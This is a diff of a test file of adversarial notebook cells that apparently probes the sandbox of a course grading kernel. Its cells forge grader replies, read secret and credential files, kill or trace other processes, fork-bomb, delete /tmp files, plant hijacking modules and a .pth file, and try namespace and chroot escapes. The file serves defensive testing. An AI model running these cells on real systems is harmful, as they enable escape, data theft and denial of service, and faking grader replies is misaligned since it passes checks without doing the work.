@@ -11,36 +11,35 @@
 # SECRET, FOLDER, COURSE, PORT and ABSTRACT become the path of a file the learner must not read, its folder, the course's
 # folder, and a port and an abstract socket where somebody listens. The first cell runs before each of them.
 
-# %% tools="what many attacks need: the kernel's own sockets, replies that nobody made, data that are too deep"
+# %% tools="what many attacks need: the kernel's own socket, replies that nobody made, data that are too deep"
 import json
+import os
+import struct
 import sys
 
-from ipykernel.kernelapp import IPKernelApp
-
 sys.setrecursionlimit(20_000)
-kernel = get_ipython().kernel
-connection_file = IPKernelApp.instance().abs_connection_file
+inside, border = sys.modules["_inside"], sys.modules["_border"]
+channel = get_ipython().channel
+end = channel.end
 to_json = json.dumps
 deep = []
 for _ in range(850):
     deep = [deep]
 
 
-def send(kind, content, parent=None, shell=False):
-    parent = parent or kernel.get_parent("shell")
-    socket = kernel.shell_stream if shell else kernel.iopub_socket
-    content = to_json(content).encode()
-    kernel.session.send(socket, kind, content, parent=parent, ident=kernel._parent_ident["shell"] if shell else b"x")
+def message(text):
+    data = text.encode("utf-8", "surrogatepass")
+    end.sendall(struct.pack("!I", len(data)) + data)
+
+
+def send(kind, content, number=None):
+    said = {"kind": kind, "number": channel.number if number is None else number}
+    message(to_json(said | content if isinstance(content, dict) else [said, content]))
 
 
 def forge(*replies):
     number = iter(range(10**9))
-    publish = type(get_ipython().display_pub).publish
-
-    def forged(self, data, *a, **k):
-        publish(self, {"text/x-course-reply": replies[next(number) % len(replies)]})
-
-    type(get_ipython().display_pub).publish = forged
+    border.serve = lambda request, namespace: replies[next(number) % len(replies)]
 
 
 # %% attack="numpy says that everything is close"
@@ -159,24 +158,21 @@ for module in (course.check, course.expect):
         if callable(getattr(module, name)):
             setattr(module, name, lambda *a, **k: True)
 
-# %% attack="the codec says that all is well"
+# %% attack="the codec says that all is well" cold=true
 import sys
 
 border = sys.modules["_border"]
 border.encode = lambda value, keep=None: True
 border.serve = lambda text, namespace: '{"value": true, "after": [{"tuple": []}, {"dict": []}]}'
 
-# %% attack="replies are forged"
-shell = get_ipython()
-publish = type(shell.display_pub).publish
 
-
-def forge(self, data, *a, **k):
+# %% attack="replies are forged" cold=true
+def forged(request, namespace):
     for reply in ("", "null", "[]", '{"value": {"eval": "1"}}', '{"error": ["SystemExit", "", ""]}', "{" * 9999):
-        publish(self, {"text/x-course-reply": reply})
+        message(f"={channel.number} {reply}")
 
 
-type(shell.display_pub).publish = forge
+border.serve = forged
 
 
 # %% attack="an error that is no error"
@@ -212,7 +208,7 @@ def quantize_dequantize(x, bits, lo, hi):
 
 ex_1_1 = 0.5
 
-# %% attack="files are read"
+# %% attack="files are read" cold=true
 import glob
 
 for path in ["SECRET", *glob.glob("FOLDER/**", recursive=True), *glob.glob("/root/*"), *glob.glob("/etc/shadow")]:
@@ -254,7 +250,7 @@ for target in (course.__file__, course.__path__[0] + "/new.py"):
     except OSError:
         pass
 
-# %% attack="other processes are read through /proc"
+# %% attack="other processes are read through /proc" cold=true
 import glob
 import os
 
@@ -266,12 +262,12 @@ for path in glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline"
     if b"pytest" in text:
         print("SEEN")
 
-# %% attack="environment variables are read"
+# %% attack="environment variables are read" cold=true
 import os
 
 print(os.environ.get("CANARY"))
 
-# %% attack="the network is used"
+# %% attack="the network is used" cold=true
 import socket
 
 try:
@@ -280,27 +276,30 @@ try:
 except OSError:
     pass
 
-# %% attack="signals to everyone"
+# %% attack="signals to everyone" cold=true
 import os
 import signal
 
-for pid in (os.getppid(), -1, 1):
+for pid in (*range(1, 1000), os.getppid(), -1):
     try:
-        os.kill(pid, signal.SIGTERM)
+        if pid != os.getpid():
+            os.kill(pid, signal.SIGTERM)
     except OSError:
         pass
 
-# %% attack="the connection file and the sockets are deleted"
+# %% attack="the files of /tmp are deleted and the socket is closed for reading" cold=true
 import glob
 import os
+import socket
 
 for path in glob.glob("/tmp/**/*", recursive=True):
     try:
         os.remove(path)
     except OSError:
         pass
+end.shutdown(socket.SHUT_RD)
 
-# %% attack="the process leaves"
+# %% attack="the process leaves" cold=true
 import os
 
 os._exit(0)
@@ -314,7 +313,7 @@ ctypes.string_at(0)
 while True:
     pass
 
-# %% attack="a loop that is not to be interrupted"
+# %% attack="a loop that is not to be interrupted" cold=true
 import signal
 
 signal.signal(signal.SIGINT, signal.SIG_IGN)
@@ -325,7 +324,7 @@ while True:
     except BaseException:
         pass
 
-# %% attack="endless output"
+# %% attack="endless output" cold=true
 while True:
     print("spam " * 1000)
 
@@ -336,7 +335,7 @@ def quantize_dequantize(x, bits, lo, hi):
         pass
 
 
-# %% attack="fork bomb"
+# %% attack="fork bomb" cold=true
 import os
 
 while True:
@@ -626,63 +625,63 @@ forge(
     '{"error": ["Exception", "", "x"]}',
 )
 
-# %% attack="every reply comes twice"
-import sys
-import types
-
-usual = sys.modules["_border"].publish
+# %% attack="every reply comes twice" cold=true
+usual = channel.send
 
 
-def publish(request):
-    usual(request)
-    usual(request)
+def twice(text):
+    usual(text)
+    usual(text)
 
 
-sys.modules["_border"] = types.SimpleNamespace(publish=publish)
+channel.send = twice
 
-# %% attack="no reply ever comes"
-import sys
-import types
+# %% attack="no reply ever comes" cold=true
+usual = channel.send
+channel.send = lambda text: None if text.startswith("=") else usual(text)
 
-sys.modules["_border"] = types.SimpleNamespace(publish=lambda request: None)
-
-# %% attack="two processes reply"
+# %% attack="two processes reply" cold=true
 import os
 
-
-def quantize_dequantize(x, bits, lo, hi):
-    os.fork()
-    return x
+own = os.getpid()
+os.fork()
+os.getpid = lambda: own  # and both go on reading requests
 
 
 # ---- Messages on the kernel's own sockets ----
 
 
-# %% attack="the kernel says at once that all went well"
-send("execute_reply", {"status": "ok", "execution_count": 1}, shell=True)
-send("status", {"execution_state": "idle"})
+# %% attack="the kernel says at once that all went well" cold=true
+send("reply", {"status": "ok", "count": 1, "left": False})
+send("ready", {})
 raise ValueError("but it did not")
 
-# %% attack="replies of no form"
+# %% attack="replies of no form" cold=true
 for content in ({}, [], None, "ok", {"status": ["ok"]}, {"status": "error", "ename": deep, "evalue": 5}):
-    send("execute_reply", content, shell=True)
+    send("reply", content)
+for text in ("null", "5", '"reply"', "[]", '{"kind": "reply"}', '{"kind": [[]], "number": [[]]}', "=", "= ", "=x y"):
+    message(text)
 
 # %% attack="an error reply of nested lists"
-send("execute_reply", {"status": "error", "ename": deep, "evalue": deep, "execution_count": True}, shell=True)
+send("reply", {"status": "error", "ename": deep, "evalue": deep, "count": True, "left": deep})
+message('{"kind": "reply", "number": ' + "[" * 1_900_000)
+message('{"kind": ' + '{"a":' * 900_000)
 
-# %% attack="outputs of no form"
+# %% attack="outputs of no form" cold=true
 for kind in (
     "stream",
     "display_data",
     "execute_result",
     "error",
     "clear_output",
-    "status",
-    "input_request",
-    "comm_open",
+    "left_out",
+    "ready",
+    "asked",
+    "answer",
 ):
     for content in ({}, [], None, {"name": 5, "text": 5}, {"data": 5}, {"data": [1]}, {"ename": {}, "traceback": 7}):
         send(kind, content)
+    send(kind, {"size": 10**4000, "wait": deep, "name": "stdout", "request": deep})
 
 # %% attack="outputs nested deeper than anybody reads"
 for data in ({"application/json": deep}, {"text/plain": deep}, {"image/png": {"a": deep}}, {"text/html": [[1]]}):
@@ -694,19 +693,21 @@ send("stream", {"name": "stdout", "text": "\ud83d"})
 send("display_data", {"data": {"text/plain": "\ud83d", "\ud83d": "\ud83d", "application/json": {"\ud83d": ["\ud83d"]}}})
 send("error", {"ename": "\ud83d", "evalue": "\ud83d", "traceback": ["\ud83d"]})
 send("display_data", {"data": {"application/json": {"a": float("nan")}, "application/x+json": [float("inf")]}})
+message('{"kind": "stream", "number": %d, "name": "stdout", "text": "\ud83d"}' % channel.number)
+os.write(1, b"\xf0\x9f\n\xed\xa0\xbd\xff" * 1000)
 
 # %% attack="a hundred thousand error messages"
 for _ in range(100_000):
     send("error", {"ename": "E", "evalue": "x" * 9000, "traceback": ["x" * 9000] * 10})
 
-# %% attack="a flood of tiny messages"
+# %% attack="a flood of tiny messages" cold=true
 for _ in range(1_000_000):
     send("stream", {"name": "stdout", "text": "x"})
 
-# %% attack="messages of more than a hundred megabytes"
+# %% attack="messages of more than a hundred megabytes" cold=true
 for _ in range(2):
     send("display_data", {"data": {"text/plain": "x" * 120_000_000}})
-send("execute_reply", {"status": "ok", "x": "x" * 120_000_000}, shell=True)
+send("reply", {"status": "ok", "x": "x" * 120_000_000})
 
 # %% attack="a thread sends sixty megabytes again and again"
 import threading
@@ -714,22 +715,22 @@ import threading
 
 def flood():
     while True:
-        send("display_data", {"data": {"text/plain": "x" * 60_000_000}}, parent)
+        send("display_data", {"data": {"text/plain": "x" * 60_000_000}}, number)
 
 
-parent = kernel.get_parent("shell")
+number = channel.number
 threading.Thread(target=flood, daemon=True).start()
 
-# %% attack="one message of parts without end"
+# %% attack="one message without end" cold=true
+end.sendall(struct.pack("!I", 2**32 - 1))
 part = bytes(60_000_000)
-socket = getattr(kernel.iopub_socket, "io_thread", kernel.iopub_socket)
-socket = getattr(socket, "socket", socket)
-for _ in range(3):
-    socket.send_multipart([part] * 600, copy=False)
+while True:
+    end.sendall(part)
 
-# %% attack="questions to the person at the keyboard"
+# %% attack="questions to the grader and to the person at the keyboard"
 for _ in range(100):
-    send("input_request", {"prompt": '{"do": "get", "name": "ex_1_1"}', "password": False}, shell=True)
+    send("asked", {"request": '{"do": "get", "name": "ex_1_1"}'})
+    send("input_request", {"prompt": '{"do": "get", "name": "ex_1_1"}', "password": False})
 try:
     input("who is there?")
 except Exception:
@@ -740,26 +741,151 @@ for i in range(20_000):
     send("comm_open", {"comm_id": str(i), "target_name": "jupyter.widget", "data": {"state": {"value": "x" * 100}}})
 
 # %% attack="the output is cleared again and again"
-for _ in range(20_000):
-    send("clear_output", {"wait": False})
+for i in range(20_000):
+    send("clear_output", {"wait": i % 2 == 0})
     send("stream", {"name": "stderr", "text": "x"})
 
-# %% attack="messages are signed with another key"
-kernel.session.key = b"another"
+# %% attack="half a message, and then nothing" cold=true
+end.sendall(struct.pack("!I", 1000) + b'{"kind": "reply", ')
 
-# %% attack="the kernel executes nothing and says ok"
-import types
+# %% attack="a message that comes byte by byte"
+import time
+
+end.sendall(struct.pack("!I", 1000))
+while True:
+    end.sendall(b" ")
+    time.sleep(0.01)
+
+# %% attack="messages of nothing without end" cold=true
+while True:
+    end.sendall(bytes(2**20))
+
+# %% attack="noise on the socket"
+import os
+
+while True:
+    end.sendall(os.urandom(2**16))
+
+# %% attack="sixty megabytes of commas, of digits and of escapes"
+message("[" + "," * 60_000_000)
+message("9" * 60_000_000)
+message('"' + "\\u0000" * 10_000_000 + '"')
+message('{"kind": "reply", "number": ' + "9" * 60_000_000 + "}")
+message("=" + "9" * 60_000_000)
+
+# %% attack="the socket is closed, and the process goes on" cold=true
+import os
+import time
+
+for number in os.listdir("/proc/self/fd"):
+    if os.path.exists(f"/proc/self/fd/{number}") and os.readlink(f"/proc/self/fd/{number}").startswith("socket"):
+        os.close(int(number))
+while True:
+    time.sleep(1)
+
+# %% attack="the socket is closed for writing, and the process goes on" cold=true
+import socket
+import time
+
+end.shutdown(socket.SHUT_WR)
+while True:
+    time.sleep(1)
+
+# %% attack="another socket takes the place of its own" cold=true
+import os
+import socket
+
+ours, theirs = socket.socketpair()
+os.dup2(theirs.fileno(), end.fileno())
+message(f'={channel.number} {{"value": 0.5}}')
+
+# %% attack="a child keeps the socket when the process has gone" cold=true
+import os
+import time
+
+if os.fork() == 0:
+    os.setsid()
+    while True:
+        time.sleep(1)
+os._exit(0)
+
+# %% attack="a child answers in the place of its parent" cold=true
+import os
+import socket
+import time
+
+if os.fork() == 0:
+    asked = 0
+    while True:
+        text = socket.socket(fileno=os.dup(end.fileno())).recv(2**20).decode(errors="replace")
+        for number in range(1000):
+            message(f'={number} {{"value": 0.5}}')
+            send("reply", {"status": "ok", "count": 1}, number)
+time.sleep(1)
+
+# %% attack="answers come late, from a thread"
+import threading
+import time
+
+usual = border.serve
 
 
-async def do_execute(self, *a, **k):
-    return {"status": "ok", "execution_count": 1, "payload": [], "user_expressions": {}}
+def late(request, namespace):
+    number, reply = channel.number, usual(request, namespace)
+    threading.Timer(0.5, lambda: message(f"={number} {reply}")).start()
+    threading.Timer(0.5, lambda: message(f'={number + 1} {{"value": 0.5}}')).start()
+    time.sleep(0.4)
+    return '{"missing": "x"}'
 
 
-kernel.do_execute = types.MethodType(do_execute, kernel)
+border.serve = late
 
-# %% attack="the kernel forgets to answer"
-kernel.shell_handlers = dict.fromkeys(kernel.shell_handlers, lambda *a: None)
-kernel.control_handlers = {}
+# %% attack="the next requests are read before their time" cold=true
+import threading
+
+
+def read():
+    while True:
+        end.recv(2**20)
+        send("reply", {"status": "ok", "count": 1}, channel.number + 1)
+
+
+threading.Thread(target=read, daemon=True).start()
+
+# %% attack="requests are never read, and answered all the same" cold=true
+import time
+
+inside.Channel.receive = lambda self: time.sleep(0.01) or "?{}"
+border.serve = lambda request, namespace: '{"value": 0.5}'
+
+# %% attack="the kernel becomes another program" cold=true
+import os
+import sys
+
+code = """import os, struct, time
+for number in range(1000):
+    text = b'={number} {"value": 0.5}'.replace(b"{number}", b"%d" % number)
+    os.write(3, struct.pack("!I", len(text)) + text)
+while True:
+    os.read(3, 100)
+"""
+for number in os.listdir("/proc/self/fd"):
+    if os.path.exists(f"/proc/self/fd/{number}"):
+        os.set_inheritable(int(number), True)
+os.dup2(end.fileno(), 3)
+os.execv(sys.executable, [sys.executable, "-c", code])
+
+# %% attack="messages with the numbers of all requests that were and will be" cold=true
+for number in [*range(-5, 1000), 2**70, 1.0, True, None, "1", float("nan")]:
+    send("reply", {"status": "ok", "count": 1}, number if number is not None else [])
+    message(f'={number} {{"value": 0.5}}')
+channel.number = 10**9
+
+# %% attack="the kernel executes nothing and says ok" cold=true
+inside._run = lambda shell, channel, loop, code, silent: channel.say("reply", count=1, left=False, status="ok")
+
+# %% attack="the kernel forgets to answer" cold=true
+inside._run = inside._answer = lambda *a, **k: None
 
 
 # %% attack="an answer that swallows interrupts"
@@ -788,33 +914,33 @@ def turn():
 
 threading.Thread(target=turn, daemon=True).start()
 
-# %% attack="all files are closed"
+# %% attack="all files are closed" cold=true
 import os
 
 os.closerange(0, 4096)
 
-# %% attack="the process stops and does not go on"
+# %% attack="the process stops and does not go on" cold=true
 import os
 import signal
 
 os.kill(os.getpid(), signal.SIGSTOP)
 
-# %% attack="the one who made the walls is killed"
+# %% attack="the ones who made the walls are killed" cold=true
 import os
 import signal
 
-for pid in (1, os.getppid(), -1, os.getpid()):
+for pid in (*range(1, 1000), -1, os.getppid(), os.getpid()):
     try:
-        os.kill(pid, signal.SIGKILL)
+        if pid != os.getpid():
+            os.kill(pid, signal.SIGKILL)
     except OSError:
         pass
+os.kill(os.getpid(), signal.SIGKILL)
 
-# %% attack="it leaves whenever it is asked"
+# %% attack="it leaves whenever it is asked" cold=true
 import os
-import sys
-import types
 
-sys.modules["_border"] = types.SimpleNamespace(publish=lambda request: os._exit(0))
+border.serve = lambda request, namespace: os._exit(0)
 
 
 # %% attack="the answer crashes the process"
@@ -904,7 +1030,7 @@ for _ in range(240):
 # ---- Memory and disk ----
 
 
-# %% attack="three gigabytes of shared memory"
+# %% attack="three gigabytes of shared memory" cold=true
 import mmap
 
 shared = mmap.mmap(-1, 3 * 2**30)
@@ -933,14 +1059,16 @@ for place in ("/dev/shm", "/tmp", "."):
     except OSError:
         pass
 
-# %% attack="the folder of the sockets is filled"
+# %% attack="files in memory are filled and sent to the grader" cold=true
 import os
+import socket
 
-folder = os.path.dirname(connection_file)
+hoard = []
 for k in range(100):
-    with open(f"{folder}/x{k}", "wb") as file:
-        for _ in range(30):
-            file.write(bytes(1_000_000))
+    hoard.append(os.memfd_create(""))
+    for _ in range(30):
+        os.write(hoard[-1], bytes(1_000_000))
+    socket.send_fds(end, [struct.pack("!I", 0)], [hoard[-1]])
 print("SE" + "EN")  # not as a traceback shows it
 
 # %% attack="files without a name are filled"
@@ -1002,7 +1130,7 @@ for name in (b"\xff\xfe/\x80\n\x1b[31m", b"-rf", b"\xed\xa0\xbd.ipynb", b"new\nl
     open(name, "w").close()
 os._exit(0)
 
-# %% attack="a home full of modules that greet the next process"
+# %% attack="a home full of modules that greet the next process" cold=true
 import os
 
 for name in (
@@ -1011,9 +1139,13 @@ for name in (
     "runpy",
     "os",
     "encodings",
-    "zmq",
-    "ipykernel_launcher",
-    "ipykernel",
+    "socket",
+    "struct",
+    "asyncio",
+    "IPython",
+    "_border",
+    "_inside",
+    "_warm",
     "sitecustomize",
     "numpy",
 ):
@@ -1021,30 +1153,38 @@ for name in (
         file.write("import time\nwhile True:\n    time.sleep(1)\n")
 os._exit(0)
 
-# %% attack="the next process reads the grader's files for it"
+# %% attack="the next process reads the grader's files for it" cold=true
 import os
 
-launcher = """import os, sys
-folder = os.path.dirname(sys.argv[sys.argv.index("-f") + 1])
-for name in os.listdir(folder):
-    os.remove(os.path.join(folder, name))
-os.symlink("SECRET", os.path.join(folder, "said"))
-os.symlink("SECRET", os.path.join(folder, "kernel.json"))
+launcher = """import os
+try:
+    said = open("SECRET", "rb").read()
+except OSError:
+    said = b""
+for number in range(20):
+    try:
+        os.write(number, b"SEEN" + said)
+    except OSError:
+        pass
 """
-for name in ("runpy", "ipykernel_launcher"):
+for name in ("runpy", "socket", "struct", "json", "types", "IPython", "sitecustomize", "usercustomize", "torch"):
     with open(f"{name}.py", "w") as file:
         file.write(launcher)
+with open("evil.pth", "w") as file:
+    file.write("import runpy, IPython\n")
 os._exit(0)
 
-# %% attack="the next process lets whoever reads its complaints wait"
+# %% attack="the next process ends, and its child keeps all that it held" cold=true
 import os
 
-launcher = """import os, sys
-folder = os.path.dirname(sys.argv[sys.argv.index("-f") + 1])
-os.remove(os.path.join(folder, "said"))
-os.mkfifo(os.path.join(folder, "said"))
+launcher = """import os, time
+if os.fork():
+    os._exit(1)
+os.setsid()
+while True:
+    time.sleep(1)
 """
-for name in ("runpy", "ipykernel_launcher"):
+for name in ("runpy", "socket", "struct", "json", "types", "IPython", "sitecustomize", "torch"):
     with open(f"{name}.py", "w") as file:
         file.write(launcher)
 os._exit(0)
@@ -1088,39 +1228,52 @@ os._exit(0)
 # ---- The walls ----
 
 
-# %% attack="the kernel's connection folder leads out"
-import glob
+# %% attack="what is open leads out" cold=true
 import os
+import socket
 
-folder = os.path.dirname(connection_file)
-for path in glob.glob(folder + "/*"):
-    os.remove(path)
-    os.symlink("SECRET", path)
-    print(open(path).read() if os.path.exists(path) else "")
+for number in os.listdir("/proc/self/fd"):
+    for path in (f"/proc/self/fd/{number}", f"/proc/self/fd/{number}/..", f"/proc/self/fd/{number}/../../.."):
+        for secret in ("SECRET", "COURSE/source"):
+            if os.path.exists(path + secret):
+                print("SEEN", path)
+    try:
+        print(os.open("SECRET", os.O_RDONLY, dir_fd=int(number)), "SEEN")
+    except OSError:
+        pass
+end.setblocking(False)
+try:
+    print(socket.recv_fds(end, 100, 10)[1], "SE" + "EN")
+except OSError:
+    pass
+end.setblocking(True)
+for number in os.listdir("/tmp"):
+    os.remove(f"/tmp/{number}")
+os.symlink("SECRET", "/tmp/said")
+for number in (0, 1, 2):
+    os.dup2(os.open("/tmp", os.O_RDONLY), number)
+    print(os.listdir(number))
 
-# %% attack="other processes are traced"
+# %% attack="other processes are traced" cold=true
 import ctypes
 import os
 
 libc = ctypes.CDLL(None, use_errno=True)
 room = ctypes.create_string_buffer(8)
 here = (ctypes.c_size_t * 2)(ctypes.addressof(room), 8)
-for pid in [1, 2, *range(os.getppid() - 1, os.getppid() + 1)]:
-    if (
-        pid not in (os.getpid(), 0)
-        and libc.ptrace(16, pid, 0, 0) == 0
-        and os.stat(f"/proc/{pid}").st_uid != os.getuid()
-    ):
+for pid in range(1, 1000):
+    theirs = pid != os.getpid() and os.path.exists(f"/proc/{pid}") and os.stat(f"/proc/{pid}").st_uid != os.getuid()
+    if theirs and libc.ptrace(16, pid, 0, 0) == 0:
         print("SEEN")
     there = (ctypes.c_size_t * 2)(id(os), 8)
-    if libc.process_vm_writev(pid, here, 1, there, 1, 0) == 8 and os.stat(f"/proc/{pid}").st_uid != os.getuid():
+    if pid != os.getpid() and libc.process_vm_writev(pid, here, 1, there, 1, 0) == 8 and theirs:
         print("SEEN")
 for descriptor in range(20):
     pidfd = libc.syscall(434, 1, 0)
     if pidfd >= 0 and libc.syscall(438, pidfd, descriptor, 0) >= 0 and os.stat("/proc/1").st_uid != os.getuid():
         print("SEEN")
 
-# %% attack="walls are taken down from within a user namespace of its own"
+# %% attack="walls are taken down from within a user namespace of its own" cold=true
 import ctypes
 import os
 
@@ -1150,7 +1303,7 @@ os.wait()
 if os.path.exists("found"):
     print("SEEN", open("found").read())
 
-# %% attack="system calls that have no business here"
+# %% attack="system calls that have no business here" cold=true
 import ctypes
 import os
 
@@ -1168,11 +1321,11 @@ for number in (169, 246, 175, 165, 167):
 if os.getuid() == 0 or any(int(line.split()[1], 16) for line in open("/proc/self/status") if line.startswith("CapEff")):
     print("SEEN")
 
-# %% attack="the machine is read through /proc, /sys and /dev"
+# %% attack="the machine is read through /proc, /sys and /dev" cold=true
 import glob
 import os
 
-for path in ("/proc/1/root", "/proc/1/cwd", "/proc/self/root", f"/proc/{os.getppid()}/root"):
+for path in glob.glob("/proc/[0-9s]*/root") + glob.glob("/proc/[0-9s]*/cwd"):
     for secret in ("SECRET", "COURSE/source", "/etc/shadow", "/root/.ssh"):
         if os.path.exists(path + secret):
             print("SEEN", path, secret)
@@ -1186,7 +1339,7 @@ for path in glob.glob("/proc/[0-9]*/environ"):
         print("SEEN" if b"CANARY" in open(path, "rb").read() else "")
     except OSError:
         pass
-for number in range(3, 200):
+for number in range(200):
     try:
         link = os.readlink(f"/proc/self/fd/{number}")
     except OSError:
@@ -1194,7 +1347,7 @@ for number in range(3, 200):
     if link.startswith(("COURSE", "FOLDER")) or "gradebook" in link:
         print("SEEN", link)
 
-# %% attack="abstract sockets of the machine"
+# %% attack="abstract sockets of the machine" cold=true
 import socket
 
 for name in ("\0ABSTRACT", "\0/tmp/.X11-unix/X0", "\0/tmp/dbus"):
@@ -1217,3 +1370,200 @@ import socket
 
 server = socket.create_server(("0.0.0.0", 0))
 server.setblocking(False)
+
+# %% attack="namespaces are joined and left" cold=true
+import ctypes
+import glob
+import os
+
+libc = ctypes.CDLL(None, use_errno=True)
+before = {name: os.readlink(f"/proc/self/ns/{name}") for name in os.listdir("/proc/self/ns")}
+for path in glob.glob("/proc/[0-9]*/ns/*"):
+    try:
+        libc.setns(os.open(path, os.O_RDONLY), 0)
+    except OSError:
+        pass
+for pid in range(1, 100):
+    pidfd = libc.syscall(434, pid, 0)
+    for kind in (0x20000, 0x20000000, 0x40000000, 0x10000000, 0x7E020000):
+        libc.setns(pidfd, kind)
+for kind in (0x20000, 0x20000000, 0x40000000, 0x8000000, 0x4000000, 0x2000000):
+    if libc.unshare(kind) == 0:
+        print("SEEN", hex(kind))
+for name, space in before.items():
+    if name not in ("user", "mnt") and os.readlink(f"/proc/self/ns/{name}") != space:
+        print("SEEN", name)
+for path in ("SECRET", "COURSE/source"):
+    if os.path.exists(path):
+        print("SEEN")
+
+# %% attack="the root is left through what is open" cold=true
+import ctypes
+import os
+
+libc = ctypes.CDLL(None, use_errno=True)
+for number in range(-200, 1024):
+    if libc.fchdir(number) == 0:
+        print("SEEN", number)
+for place in ("/proc/1/root", "/proc/self/root", "/proc/1/cwd", "/tmp", "/"):
+    try:
+        folder = os.open(place, os.O_RDONLY)
+    except OSError:
+        continue
+    os.makedirs("/tmp/below", exist_ok=True)
+    libc.chroot(b"/tmp/below")
+    os.fchdir(folder)
+    for _ in range(50):
+        os.chdir("..")
+    libc.chroot(b".")
+    for path in ("SECRET", "COURSE/source", "/root/.bashrc", "/var/lib/dpkg"):
+        if os.path.exists(path) or os.path.exists(path.lstrip("/")):
+            print("SEEN", place, path)
+os.chdir("/home/learner")
+
+# %% attack="the program that runs is changed on the disk" cold=true
+import glob
+import os
+
+changes = {
+    "mode": lambda path: os.chmod(path, 0o6777),
+    "times": lambda path: os.utime(path, (0, 0)),
+    "owner": lambda path: os.chown(path, os.getuid(), -1),
+    "attributes": lambda path: os.setxattr(path, "user.seen", b"x"),
+    "content": lambda path: open(path, "r+b").write(b"x"),
+    "size": lambda path: os.truncate(path, 0),
+    "name": lambda path: os.link(path, "/home/learner/linked"),
+}
+hold = os.open("/proc/self/exe", os.O_PATH)
+for path in (*glob.glob("/proc/[0-9s]*/exe"), f"/proc/self/fd/{hold}", *glob.glob("/proc/self/map_files/*")):
+    for name, change in changes.items():
+        try:
+            change(path)
+            print("SEEN", path, name)
+        except OSError:
+            pass
+
+# %% attack="the grader is reached through its end of the socket" cold=true
+import ctypes
+import os
+import socket
+import struct
+
+libc = ctypes.CDLL(None, use_errno=True)
+pid, user, group = struct.unpack("3i", end.getsockopt(socket.SOL_SOCKET, socket.SO_PEERCRED, 12))
+if pid:
+    print("SEEN", pid)
+try:
+    pidfd = end.getsockopt(socket.SOL_SOCKET, 77)
+except OSError:
+    pidfd = -1
+if pidfd >= 0:
+    for signal in (0, 15, 9):
+        if libc.syscall(424, pidfd, signal, 0, 0) == 0:
+            print("SEEN a signal")
+    for descriptor in range(100):
+        if libc.syscall(438, pidfd, descriptor, 0) >= 0:
+            print("SEEN a descriptor")
+    for kind in (0x20000, 0x10000000, 0x20000000, 0x40000000, 0x7E020000):
+        if libc.setns(pidfd, kind) == 0:
+            print("SEEN a namespace")
+
+# %% attack="what was before the fork is looked for"
+import gc
+import re
+import socket
+
+secret = re.compile("CANAR[Y]|onl[y] the grader|nearest[_]level")  # a pattern does not find itself
+for each in [*gc.get_objects(), *gc.get_referents(*gc.get_objects())]:
+    if isinstance(each, (str, bytes)) and secret.search(each if isinstance(each, str) else each.decode("latin-1")):
+        print("SE" + "EN", each[:100])
+    if isinstance(each, socket.socket) and each.type == socket.SOCK_SEQPACKET and each.fileno() >= 0:
+        print("SE" + "EN", each)
+secret = re.compile(secret.pattern.encode())
+with open("/proc/self/mem", "rb", 0) as memory:
+    for line in open("/proc/self/maps"):
+        place, rights, *_ = line.split()
+        start, stop = (int(number, 16) for number in place.split("-"))
+        if rights.startswith("rw") and stop < 2**63:
+            try:
+                memory.seek(start)
+                if found := secret.search(memory.read(stop - start)):
+                    print("SE" + "EN", found)
+            except OSError:
+                pass
+
+# %% attack="memory is taken in the name of the one that holds the walls" cold=true
+import ctypes
+import os
+import platform
+import time
+
+libc = ctypes.CDLL(None, use_errno=True)
+libc.ptrace.argtypes, libc.ptrace.restype = [ctypes.c_long] * 4, ctypes.c_long
+registers = (ctypes.c_ulonglong * 27)()
+there = ctypes.addressof(registers)
+for pid in [pid for pid in range(1, 100) if pid != os.getpid() and platform.machine() == "x86_64"]:
+    if libc.ptrace(16, pid, 0, 0) == 0:
+        os.waitpid(pid, 0)
+        libc.ptrace(12, pid, 0, there)
+        # mmap(0, 700 MiB, to read and write, shared and filled at once)
+        registers[10], registers[14], registers[13], registers[12], registers[7] = 9, 0, 700 * 2**20, 3, 0x8021
+        registers[9] = registers[15] = 2**64 - 1
+        registers[8] = 0
+        registers[16] -= 2
+        libc.ptrace(13, pid, 0, there)
+        libc.ptrace(9, pid, 0, 0)
+        os.waitpid(pid, 0)
+        time.sleep(1)
+        for line in open(f"/proc/{pid}/status"):
+            if line.startswith("RssShmem") and int(line.split()[1]) > 600_000:
+                print("SE" + "EN", line)
+
+# %% attack="the one that holds the walls is stopped and made to wait" cold=true
+import os
+import signal
+
+for pid in range(1, 1000):
+    try:
+        if pid != os.getpid():
+            os.kill(pid, signal.SIGSTOP)
+    except OSError:
+        pass
+
+# %% attack="the walls' own process is told to say something" cold=true
+import glob
+import os
+
+for path in glob.glob("/proc/[0-9]*/fd/*"):
+    if path.split("/")[2] != str(os.getpid()):
+        try:
+            os.write(os.open(path, os.O_WRONLY | os.O_NONBLOCK), b'{"child-pid": 1}.' * 10_000)
+        except OSError:
+            pass
+        try:
+            os.read(os.open(path, os.O_RDONLY | os.O_NONBLOCK), 10_000)
+        except OSError:
+            pass
+
+# %% attack="all processors, all priorities" cold=true
+import os
+import time
+
+for change in (
+    lambda: os.nice(-20),
+    lambda: os.setpriority(os.PRIO_PROCESS, 0, -20),
+    lambda: os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(99)),
+):
+    try:
+        change()
+        print("SEEN")
+    except OSError:
+        pass
+import resource
+
+for name in ("RLIMIT_DATA", "RLIMIT_NPROC", "RLIMIT_FSIZE", "RLIMIT_CORE", "RLIMIT_CPU"):
+    try:
+        resource.setrlimit(getattr(resource, name), (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
+        print("SEEN", name)
+    except (OSError, ValueError):
+        pass
